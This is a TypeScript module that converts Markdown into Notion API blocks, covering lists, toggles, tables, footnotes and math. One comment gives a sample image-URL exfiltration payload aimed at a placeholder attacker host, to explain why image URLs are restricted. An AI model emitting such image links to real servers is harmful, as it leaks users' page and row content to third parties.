// Markdown (CommonMark + GFM) → Notion block request objects. Nesting is kept to any depth here;
// block-writer.ts splits deep trees into requests Notion accepts.
// Longer than most files, on purpose: one converter, a case per Markdown node, read top to bottom.
import type { BlockObjectRequest } from '@notionhq/client';
import type {
  Blockquote,
  Code,
  FootnoteDefinition,
  Heading,
  Html,
  List,
  ListItem,
  Nodes,
  Paragraph,
  PhrasingContent,
  Root,
  RootContent,
  Table,
  TableCell,
} from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { toNotionLanguage, type NotionLanguage } from './code-languages';
import {
  detailsClose,
  detailsParts,
  htmlTable,
  isHorizontalRule,
  isOnlyComments,
  opensDetails,
  preformatted,
  unclosedRawElement,
} from './inline-html';
import { NOTION_EQUATION_MAX_CHARS } from './limits';
import {
  chunkRichText,
  fitRichText,
  phrasingToRichText,
  richTextToPlainText,
  splitText,
  textToRichText,
  toExternalFileUrl,
  type DefinitionLookup,
  type InlineContext,
  type TextItem,
} from './rich-text';
import { type RichTextItemRequest, type BlockTree } from '../shared/notion-shapes';

// ---- BlockTree: a request block whose children nest to any depth ----

/** The type-specific data of a block (`block[block.type]`), for code that handles every type alike. */
function blockData(block: BlockTree): { children?: BlockTree[] } {
  const record: Record<string, unknown> = block;
  const data = record[block.type];
  return typeof data === 'object' && data !== null ? (data as { children?: BlockTree[] }) : {};
}

/** A block's children, `[]` when it has none. */
export function blockChildren(block: BlockTree): BlockTree[] {
  return blockData(block).children ?? [];
}

/** A copy of `block` with its children replaced; no children (or none given) drops the key. */
export function withChildren(block: BlockTree, children: readonly BlockTree[] | undefined): BlockTree {
  const data: { children?: BlockTree[] } = { ...blockData(block) };
  if (children && children.length > 0) data.children = [...children];
  else delete data.children;
  return { ...block, [block.type]: data } as BlockTree;
}

/**
 * A tree as the SDK's request type. Only for trees whose depth the caller has already limited to
 * what one request allows (the SDK type encodes that limit, our tree type deliberately does not).
 */
export function toBlockRequest(block: BlockTree): BlockObjectRequest {
  return block as BlockObjectRequest;
}

// ---- Markdown → BlockTree ----

/** Text blocks whose data is `{ rich_text, … }`. */
type TextBlockType =
  | 'paragraph'
  | 'heading_1'
  | 'heading_2'
  | 'heading_3'
  | 'heading_4'
  | 'bulleted_list_item'
  | 'numbered_list_item'
  | 'quote';

/** Heading depth → block type: Notion's deepest heading is heading_4, so h5 and h6 are heading_4 too. */
const HEADING_TYPES = ['heading_1', 'heading_2', 'heading_3', 'heading_4'] as const;

/** The heading over the footnotes, which go at the end of the page as a numbered list. */
const NOTES_HEADING = 'Notes';

/** A fence around the whole answer that means "this is Markdown", not "this is code". */
const MARKDOWN_FENCE_LANGUAGES = new Set(['markdown', 'md', 'gfm', 'mdown', 'mkd']);

interface Footnotes {
  /** Definitions by identifier, in document order. */
  definitions: Map<string, FootnoteDefinition>;
  /** The number each reference shows, given in order of first reference. */
  numbers: Map<string, number>;
}

interface Context {
  definitions: DefinitionLookup;
  /** Whether an image of the answer may become an image block (which Notion fetches). */
  allowImage: (url: string) => boolean;
  /** Fence info string marking a `$$` display math block (see `protectDisplayMath`). */
  mathToken: string;
  /** The text the nodes were parsed from (their positions point into it). */
  source: string;
  /** The document's link and footnote definitions as Markdown, for parts read again on their own. */
  definitionSource: string;
  footnotes: Footnotes;
}

function inlineContext(ctx: Context): InlineContext {
  return { definitions: ctx.definitions, footnoteNumber: (identifier) => footnoteNumber(ctx.footnotes, identifier) };
}

function footnoteNumber(footnotes: Footnotes, identifier: string): number {
  const known = footnotes.numbers.get(identifier);
  if (known !== undefined) return known;
  const number = footnotes.numbers.size + 1;
  footnotes.numbers.set(identifier, number);
  return number;
}

export interface MarkdownOptions {
  /**
   * Which images become image blocks. Notion fetches an image block's URL, so an image the model
   * made up could carry page or row content to any server (`![](https://attacker/?d=…)`); the
   * caller allows only URLs the user gave or chose. Any other image stays a visible link. Default: none.
   */
  allowImage?: (url: string) => boolean;
}

const parseTree = (source: string): Root =>
  fromMarkdown(source, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });

function parse(markdown: string): { tree: Root; token: string; source: string } {
  const { source, token } = protectDisplayMath(unwrapMarkdownFence(markdown.replace(/\r\n?/g, '\n')));
  return { tree: parseTree(source), token, source };
}

/**
 * Converts Markdown to Notion blocks. Tables, strikethrough, task lists, footnotes and autolinks follow
 * GFM. A whole answer fenced as ```markdown is the document it holds. `$$` on lines of its own, or a line
 * that is only `$$…$$`, is math; `$…$` inline stays literal ("$5 and $10"). The HTML models write is read
 * as formatting (inline-html.ts), never rendered. Empty input gives [].
 */
export function markdownToBlocks(markdown: string, options: MarkdownOptions = {}): BlockTree[] {
  const { tree, token, source } = parse(markdown);
  const ctx: Context = {
    definitions: collectDefinitions(tree),
    mathToken: token,
    allowImage: options.allowImage ?? (() => false),
    source,
    definitionSource: definitionsSource(tree, source),
    footnotes: { definitions: new Map(), numbers: new Map() },
  };
  const blocks = convertNodes(tree.children, ctx);
  return [...blocks, ...notesBlocks(ctx)];
}

/**
 * The inside of a fence around the whole answer tagged markdown (or md), which models often send: the
 * document, not a code block. Also when the model left the fence open, or closed it early by nesting a
 * bare ``` fence inside (then the last line, a lone fence, opens an empty block that runs to the end).
 * A fenced block among other content stays code.
 */
function unwrapMarkdownFence(markdown: string): string {
  const lines = markdown.trim().split('\n');
  const opener = /^(`{3,}|~{3,})[ \t]*([^\s`]*)[^`]*$/.exec(lines[0] ?? '');
  if (!opener?.[1] || !MARKDOWN_FENCE_LANGUAGES.has((opener[2] ?? '').toLowerCase())) return markdown;
  const tree = parseTree(markdown.trim());
  const [first] = tree.children;
  const last = tree.children[tree.children.length - 1];
  const whole = tree.children.length === 1 && first?.type === 'code';
  const fence = opener[1];
  const closing = new RegExp(`^ {0,3}${fence[0] === '`' ? '`' : '~'}{${fence.length},}[ \\t]*$`);
  const closedAtEnd = lines.length > 1 && closing.test(lines[lines.length - 1] ?? '');
  const brokenNesting =
    closedAtEnd && last?.type === 'code' && !last.lang && last.value === '' && tree.children.length > 1;
  if (!whole && !brokenNesting) return markdown;
  return lines.slice(1, closedAtEnd ? -1 : undefined).join('\n');
}

/** The URLs of the images in a Markdown text (inline and by reference), in order. */
export function imageUrls(markdown: string): string[] {
  const { tree } = parse(markdown);
  const definitions = collectDefinitions(tree);
  const urls: string[] = [];
  const visit = (node: Nodes): void => {
    if (node.type === 'image') urls.push(node.url);
    if (node.type === 'imageReference') {
      const url = definitions(node.identifier)?.url;
      if (url !== undefined) urls.push(url);
    }
    if ('children' in node) for (const child of node.children) visit(child);
  };
  visit(tree);
  return urls;
}

/**
 * Blocks for a run of sibling nodes. A `<details>` … `</details>` is one toggle however the parser cut it
 * up (a body with blank lines spans siblings; `</details><details>` of two toggles can share one node):
 * its close is found in the source text, and what follows the close in that node is read again.
 */
function convertNodes(nodes: readonly RootContent[], ctx: Context): BlockTree[] {
  const blocks: BlockTree[] = [];
  for (let i = 0; i < nodes.length; i++) {
    const node = nodes[i]!;
    const from = node.position?.start.offset;
    if (node.type !== 'html' || !opensDetails(node.value) || from === undefined) {
      blocks.push(...convertNode(node, ctx));
      continue;
    }
    const siblingsEnd = nodes[nodes.length - 1]!.position?.end.offset;
    let cursor = from;
    let last = i;
    for (;;) {
      const close = detailsClose(ctx.source.slice(cursor, siblingsEnd));
      const to = close === -1 ? undefined : cursor + close;
      // The sibling the toggle ends in: what follows the close inside it is the next toggle, or read again.
      const found = to === undefined ? -1 : nodes.findIndex((n, j) => j >= last && (n.position?.end.offset ?? 0) >= to);
      last = found === -1 ? nodes.length - 1 : found;
      const end = nodes[last]!.position?.end.offset;
      blocks.push(toggleBlock(dedented(cursor, to ?? end, node, ctx), ctx));
      const rest = to === undefined ? '' : ctx.source.slice(to, end);
      if (to === undefined || rest.trim() === '') break;
      if (opensDetails(rest)) {
        cursor = to + (rest.length - rest.trimStart().length);
        continue;
      }
      blocks.push(...convertSource(dedented(to, end, node, ctx), ctx));
      break;
    }
    i = last;
  }
  return blocks;
}

/**
 * The source between two offsets, with the container prefix of the node's column (list indentation, a
 * quote's `> `) taken off every line after the first.
 */
function dedented(from: number, to: number | undefined, node: RootContent, ctx: Context): string {
  const prefix = new RegExp(`^[ \\t>]{0,${Math.max(0, (node.position?.start.column ?? 1) - 1)}}`);
  return ctx.source
    .slice(from, to)
    .split('\n')
    .map((line, i) => (i === 0 ? line : line.replace(prefix, '')))
    .join('\n');
}

/** `<details><summary>Title</summary> body </details>` → a toggle titled by the summary, the body inside. */
function toggleBlock(source: string, ctx: Context): BlockTree {
  const { summary, body } = detailsParts(source);
  const title = fitRichText(trimEdges(inlineRichText(summary, ctx))).items;
  const children = convertSource(body, ctx);
  const rich_text = title.length > 0 ? title : [plainItem('Details')];
  return withChildren({ type: 'toggle', toggle: { rich_text } }, children);
}

/**
 * Markdown cut out of the document (a toggle's body, what follows it), read with the document's link
 * and footnote definitions appended so its references resolve as they would in place.
 */
function convertSource(source: string, ctx: Context): BlockTree[] {
  const withDefinitions = ctx.definitionSource === '' ? source : `${source}\n\n${ctx.definitionSource}`;
  const tree = parseTree(withDefinitions);
  const inner = collectDefinitions(tree);
  const definitions: DefinitionLookup = (identifier) => inner(identifier) ?? ctx.definitions(identifier);
  return convertNodes(tree.children, { ...ctx, source: withDefinitions, definitions });
}

/** A toggle's summary as rich text: inline Markdown and HTML only (`1. Install` is its text, not a list). */
function inlineRichText(source: string, ctx: Context): TextItem[] {
  const [first, ...rest] = parseTree(source.trim()).children;
  if (first?.type === 'paragraph' && rest.length === 0) return phrasingToRichText(first.children, inlineContext(ctx));
  return phrasingToRichText([{ type: 'html', value: source }], inlineContext(ctx));
}

/** The source of every link and footnote definition in the tree, for parts read again on their own. */
function definitionsSource(tree: Root, source: string): string {
  const parts: string[] = [];
  const visit = (nodes: readonly RootContent[]): void => {
    for (const node of nodes) {
      const { start, end } = node.position ?? {};
      if ((node.type === 'definition' || node.type === 'footnoteDefinition') && start?.offset !== undefined) {
        parts.push(source.slice(start.offset, end?.offset));
      } else if ('children' in node) visit(node.children as RootContent[]);
    }
  };
  visit(tree.children);
  return parts.join('\n\n');
}

function convertNode(node: RootContent, ctx: Context): BlockTree[] {
  switch (node.type) {
    case 'paragraph':
      return paragraphNodeBlocks(node, ctx);
    case 'heading':
      return headingBlocks(node, ctx);
    case 'list':
      return listBlocks(node, ctx);
    case 'listItem':
      return [listItemBlock(node, false, ctx)];
    case 'blockquote':
      return [quoteBlock(node, ctx)];
    case 'thematicBreak':
      return [{ type: 'divider', divider: {} }];
    case 'code':
      return codeNodeBlocks(node, ctx);
    case 'table':
      return tableBlocks(node, ctx);
    case 'html':
      return htmlBlocks(node, ctx);
    case 'footnoteDefinition':
      // Kept for the notes at the end of the page, where its reference's number points.
      if (!ctx.footnotes.definitions.has(node.identifier)) ctx.footnotes.definitions.set(node.identifier, node);
      return [];
    case 'definition':
    case 'yaml':
      return [];
    case 'tableRow':
    case 'tableCell':
      // Only reachable inside a table, which handles its rows itself.
      return [];
    default:
      // Phrasing content at block level (not produced by the parser, but allowed by the types).
      return paragraphBlocks([node], ctx);
  }
}

function plainItem(content: string): TextItem {
  return { type: 'text', text: { content } };
}

/** One text block per ≤100-item chunk; continuation chunks become paragraphs after it. */
function textBlocks(type: TextBlockType, items: readonly RichTextItemRequest[]): BlockTree[] {
  const [first = [], ...rest] = chunkRichText(items);
  return [textBlock(type, first), ...rest.map((chunk) => textBlock('paragraph', chunk))];
}

function textBlock(type: TextBlockType, rich_text: RichTextItemRequest[], children?: BlockTree[]): BlockTree {
  const data = children && children.length > 0 ? { rich_text, children } : { rich_text };
  switch (type) {
    case 'paragraph':
      return { type, paragraph: data };
    case 'heading_1':
      return { type, heading_1: data };
    case 'heading_2':
      return { type, heading_2: data };
    case 'heading_3':
      return { type, heading_3: data };
    case 'heading_4':
      return { type, heading_4: data };
    case 'bulleted_list_item':
      return { type, bulleted_list_item: data };
    case 'numbered_list_item':
      return { type, numbered_list_item: data };
    case 'quote':
      return { type, quote: data };
  }
}

/**
 * A paragraph's inline content. Images that stand on their own (not inside a link) with an
 * absolute http(s) URL the caller allows are lifted out as image blocks, splitting the paragraph
 * around them; other images stay text: their alt text (or URL), linked to the image.
 */
function paragraphBlocks(children: readonly PhrasingContent[], ctx: Context): BlockTree[] {
  const blocks: BlockTree[] = [];
  let run: PhrasingContent[] = [];
  const flush = (): void => {
    const items = trimEdges(phrasingToRichText(run, inlineContext(ctx)));
    if (richTextToPlainText(items).trim().length > 0) blocks.push(...textBlocks('paragraph', items));
    run = [];
  };
  for (const child of children) {
    const image = standaloneImage(child, ctx);
    if (image) {
      flush();
      blocks.push(image);
    } else {
      run.push(child);
    }
  }
  flush();
  return blocks;
}

/**
 * A paragraph, with any of its lines that is only `$$…$$` taken out as an equation (display math on one
 * line, as on GitHub and in KaTeX) and the lines around it kept as paragraphs. The expression comes from
 * the source, so Markdown escaping never eats its backslashes (`\\,` stays `\\,`). Only paragraphs are
 * looked at, so `$$` in code of any kind stays code.
 */
function paragraphNodeBlocks(node: Paragraph, ctx: Context): BlockTree[] {
  const { start, end } = node.position ?? {};
  if (start?.offset === undefined || end?.offset === undefined || !ctx.source.includes('$$')) {
    return paragraphBlocks(node.children, ctx);
  }
  const lines = ctx.source
    .slice(start.offset, end.offset)
    .split('\n')
    .map((line, i) => (i === 0 ? line : line.replace(/^[ \t]*(?:>[ \t]?)*/, '')));
  if (!lines.some((line) => oneLineMath(line) !== undefined)) return paragraphBlocks(node.children, ctx);
  const blocks: BlockTree[] = [];
  let text: string[] = [];
  const flush = (): void => {
    if (text.length > 0) blocks.push(...convertSource(text.join('\n'), ctx));
    text = [];
  };
  for (const line of lines) {
    const math = oneLineMath(line);
    if (math === undefined) text.push(line);
    else {
      flush();
      blocks.push(...equationBlocks(math));
    }
  }
  flush();
  return blocks;
}

/** The expression of a line that is only `$$…$$` (not `$$$ a lot $$$`), else undefined. Linear: no regex. */
function oneLineMath(line: string): string | undefined {
  const text = line.trim();
  if (text.length < 5 || !text.startsWith('$$') || !text.endsWith('$$')) return undefined;
  if (text.startsWith('$$$') || text.endsWith('$$$')) return undefined;
  const inner = text.slice(2, -2);
  return inner.trim() === '' || inner.includes('$$') ? undefined : inner.trim();
}

function standaloneImage(node: PhrasingContent, ctx: Context): BlockTree | null {
  if (node.type !== 'image' && node.type !== 'imageReference') return null;
  const source = node.type === 'image' ? node.url : ctx.definitions(node.identifier)?.url;
  const url = source === undefined ? null : toExternalFileUrl(source);
  if (url === null || !ctx.allowImage(url)) return null;
  const caption = textToRichText(node.alt ?? '').items;
  return {
    type: 'image',
    image: { type: 'external', external: { url }, ...(caption.length > 0 ? { caption } : {}) },
  };
}

/** Drops whitespace at the very start and end, left behind where an image was lifted out. */
function trimEdges(items: TextItem[]): TextItem[] {
  const trimmed = items.map((item) => ({ ...item, text: { ...item.text } }));
  const first = trimmed[0];
  if (first) first.text.content = first.text.content.trimStart();
  const last = trimmed[trimmed.length - 1];
  if (last) last.text.content = last.text.content.trimEnd();
  return trimmed.filter((item) => item.text.content.length > 0);
}

function headingBlocks(node: Heading, ctx: Context): BlockTree[] {
  const type = HEADING_TYPES[Math.min(node.depth, HEADING_TYPES.length) - 1] ?? 'heading_4';
  // Trimmed like a paragraph: a comment or a dropped tel: link at the end leaves no trailing space.
  return textBlocks(type, trimEdges(phrasingToRichText(node.children, inlineContext(ctx))));
}

function listBlocks(list: List, ctx: Context): BlockTree[] {
  return list.children.map((item) => listItemBlock(item, list.ordered === true, ctx));
}

/**
 * A list item: its first paragraph is the item's text; everything after it (more paragraphs,
 * nested lists, code…) becomes the item's children. A GFM task item (`- [ ]`, `- [x]`) is a to_do.
 */
function listItemBlock(item: ListItem, ordered: boolean, ctx: Context): BlockTree {
  const { text, children } = leadingTextAndChildren(item.children, ctx);
  if (typeof item.checked === 'boolean') {
    const block: BlockTree = { type: 'to_do', to_do: { rich_text: text, checked: item.checked } };
    return withChildren(block, children);
  }
  return textBlock(ordered ? 'numbered_list_item' : 'bulleted_list_item', text, children);
}

/** A quote's first paragraph is its text; further blocks are its children. */
function quoteBlock(node: Blockquote, ctx: Context): BlockTree {
  const { text, children } = leadingTextAndChildren(node.children, ctx);
  return textBlock('quote', text, children);
}

/**
 * Splits a container's content into the text of the block itself (its first paragraph, up to 100
 * items) and its children (the rest of that paragraph's text as paragraphs, then other blocks).
 */
function leadingTextAndChildren(
  nodes: readonly RootContent[],
  ctx: Context,
): { text: RichTextItemRequest[]; children: BlockTree[] } {
  const [first, ...rest] = nodes;
  if (first?.type !== 'paragraph') return { text: [], children: convertNodes(nodes, ctx) };
  const [lead, ...more] = paragraphNodeBlocks(first, ctx);
  const children = [...more, ...convertNodes(rest, ctx)];
  if (lead?.type === 'paragraph') return { text: lead.paragraph.rich_text, children };
  return { text: [], children: lead ? [lead, ...children] : children };
}

function codeNodeBlocks(node: Code, ctx: Context): BlockTree[] {
  if (node.lang === ctx.mathToken) return equationBlocks(node.value);
  return codeBlocks(node.value, toNotionLanguage(node.lang));
}

/**
 * Code split into ≤2,000-character items (at line ends where possible); past 100 items the code
 * continues in another code block with the same language.
 */
function codeBlocks(code: string, language: NotionLanguage): BlockTree[] {
  const chunks = chunkRichText(splitText(code).map(plainItem));
  if (chunks.length === 0) return [{ type: 'code', code: { rich_text: [], language } }];
  return chunks.map((rich_text) => ({ type: 'code', code: { rich_text, language } }));
}

/** A `$$` block: an equation, or LaTeX code when the expression is over Notion's 1,000 characters. */
function equationBlocks(source: string): BlockTree[] {
  const expression = source.trim();
  if (expression.length === 0) return [];
  if (expression.length > NOTION_EQUATION_MAX_CHARS) return codeBlocks(expression, 'latex');
  return [{ type: 'equation', equation: { expression } }];
}

/**
 * A GFM table: the header row is the first row and sets the width; every row gets exactly that
 * many cells (padded with empty cells or cut). Rows are the table's children.
 */
function tableBlocks(node: Table, ctx: Context): BlockTree[] {
  const width = node.children[0]?.children.length ?? 0;
  if (width === 0) return [];
  const rows: BlockTree[] = node.children.map((row) => ({
    type: 'table_row',
    table_row: {
      cells: Array.from({ length: width }, (_, i) => cellRichText(row.children[i], ctx)),
    },
  }));
  return [
    {
      type: 'table',
      table: { table_width: width, has_column_header: true, has_row_header: false, children: rows },
    },
  ];
}

/** A cell holds one rich text array of ≤ 100 items: past that, the tail's formatting goes, never its text. */
function cellRichText(cell: TableCell | undefined, ctx: Context): RichTextItemRequest[] {
  if (!cell) return [];
  return fitRichText(phrasingToRichText(cell.children, inlineContext(ctx))).items;
}

/**
 * Raw HTML on lines of its own: comments vanish, `<hr>` is a divider, anything else is its text with the
 * formatting of its tags (`<p><b>Note</b><br>text</p>`); `<details>` is handled with its siblings.
 */
function htmlBlocks(node: Html, ctx: Context): BlockTree[] {
  if (isOnlyComments(node.value)) return [];
  if (isHorizontalRule(node.value)) return [{ type: 'divider', divider: {} }];
  const unclosed = unclosedRawElement(node.value);
  if (unclosed) {
    const first = paragraphBlocks([{ type: 'html', value: unclosed.first }], ctx);
    return [...first, ...(unclosed.rest.trim() === '' ? [] : convertSource(unclosed.rest, ctx))];
  }
  const pre = preformatted(node.value);
  if (pre) return codeBlocks(pre.code, toNotionLanguage(pre.language));
  const table = htmlTable(node.value);
  if (table) return htmlTableBlocks(table, ctx);
  return paragraphBlocks([node], ctx);
}

/** `<table><tr><th>…` as a Notion table: as wide as its widest row, a header row when the first row is all `<th>`. */
function htmlTableBlocks(table: { rows: string[][]; header: boolean }, ctx: Context): BlockTree[] {
  const width = Math.max(...table.rows.map((row) => row.length));
  const rows: BlockTree[] = table.rows.map((row) => ({
    type: 'table_row',
    table_row: {
      cells: Array.from(
        { length: width },
        (_, i) =>
          fitRichText(trimEdges(phrasingToRichText([{ type: 'html', value: row[i] ?? '' }], inlineContext(ctx)))).items,
      ),
    },
  }));
  return [
    {
      type: 'table',
      table: { table_width: width, has_column_header: table.header, has_row_header: false, children: rows },
    },
  ];
}

/**
 * Footnotes at the end of the page: a "Notes" heading and a numbered list whose numbers match the
 * superscript markers in the text (a note no text refers to comes after, numbered on).
 */
function notesBlocks(ctx: Context): BlockTree[] {
  const { definitions, numbers } = ctx.footnotes;
  if (definitions.size === 0) return [];
  for (const identifier of definitions.keys()) footnoteNumber(ctx.footnotes, identifier);
  const items: BlockTree[] = [];
  // A note may refer to another note: numbers can grow while the notes are converted.
  for (let n = 1; n <= numbers.size; n++) {
    const identifier = [...numbers].find(([, number]) => number === n)?.[0];
    const note = identifier === undefined ? undefined : definitions.get(identifier);
    if (!note) continue;
    const { text, children } = leadingTextAndChildren(note.children, ctx);
    items.push(textBlock('numbered_list_item', text, children));
  }
  return [...textBlocks('heading_3', [plainItem(NOTES_HEADING)]), ...items];
}

function collectDefinitions(tree: Root): DefinitionLookup {
  const urls = new Map<string, string>();
  const visit = (nodes: readonly RootContent[]): void => {
    for (const node of nodes) {
      // The first definition of a label wins, as in CommonMark.
      if (node.type === 'definition' && !urls.has(node.identifier)) urls.set(node.identifier, node.url);
      if ('children' in node) visit(node.children as RootContent[]);
    }
  };
  visit(tree.children);
  return (identifier) => {
    const url = urls.get(identifier);
    return url === undefined ? undefined : { url };
  };
}

// ---- `$$` display math ----

const DISPLAY_MATH_LINE = /^([ \t]*(?:>[ \t]?)*[ \t]*)\$\$[ \t\r]*$/;
const FENCE_LINE = /^[ \t>]*(`{3,}|~{3,})(.*)$/;

/**
 * Rewrites each display math block — `$$` alone on a line, the expression, `$$` alone on a line —
 * into a fenced code block tagged with a token that occurs nowhere in the input, so the parser keeps
 * the expression verbatim (no emphasis from `*`/`_`, blank lines allowed) and we can recognise it.
 * We add no math syntax extension on purpose: inline `$…$` must stay plain text. `$$` lines inside
 * fenced code are left alone; an unclosed `$$` stays text.
 */
export function protectDisplayMath(markdown: string): { source: string; token: string } {
  let token = 'inkling-display-math';
  while (markdown.includes(token)) token += '-x';
  const lines = markdown.split('\n');
  let fence: { char: string; length: number } | null = null;
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i] ?? '';
    const fenceMatch = FENCE_LINE.exec(line);
    if (fence) {
      const closes =
        fenceMatch?.[1]?.[0] === fence.char &&
        (fenceMatch[1]?.length ?? 0) >= fence.length &&
        (fenceMatch[2] ?? '').trim() === '';
      if (closes) fence = null;
      continue;
    }
    if (fenceMatch?.[1]) {
      // A backtick fence's info string cannot contain a backtick; then it is not a fence.
      const info = fenceMatch[2] ?? '';
      if (!(fenceMatch[1].startsWith('`') && info.includes('`'))) {
        fence = { char: fenceMatch[1][0] ?? '`', length: fenceMatch[1].length };
      }
      continue;
    }
    const open = DISPLAY_MATH_LINE.exec(line);
    if (!open) continue;
    const close = lines.findIndex((candidate, j) => j > i && DISPLAY_MATH_LINE.test(candidate));
    if (close === -1) continue;
    const body = lines.slice(i + 1, close);
    const longestRun = Math.max(0, ...body.map((l) => Math.max(0, ...(l.match(/`+/g) ?? []).map((r) => r.length))));
    const marker = '`'.repeat(Math.max(3, longestRun + 1));
    const closePrefix = DISPLAY_MATH_LINE.exec(lines[close] ?? '')?.[1] ?? '';
    lines[i] = `${open[1] ?? ''}${marker}${token}`;
    lines[close] = `${closePrefix}${marker}`;
    i = close;
  }
  return { source: lines.join('\n'), token };
}
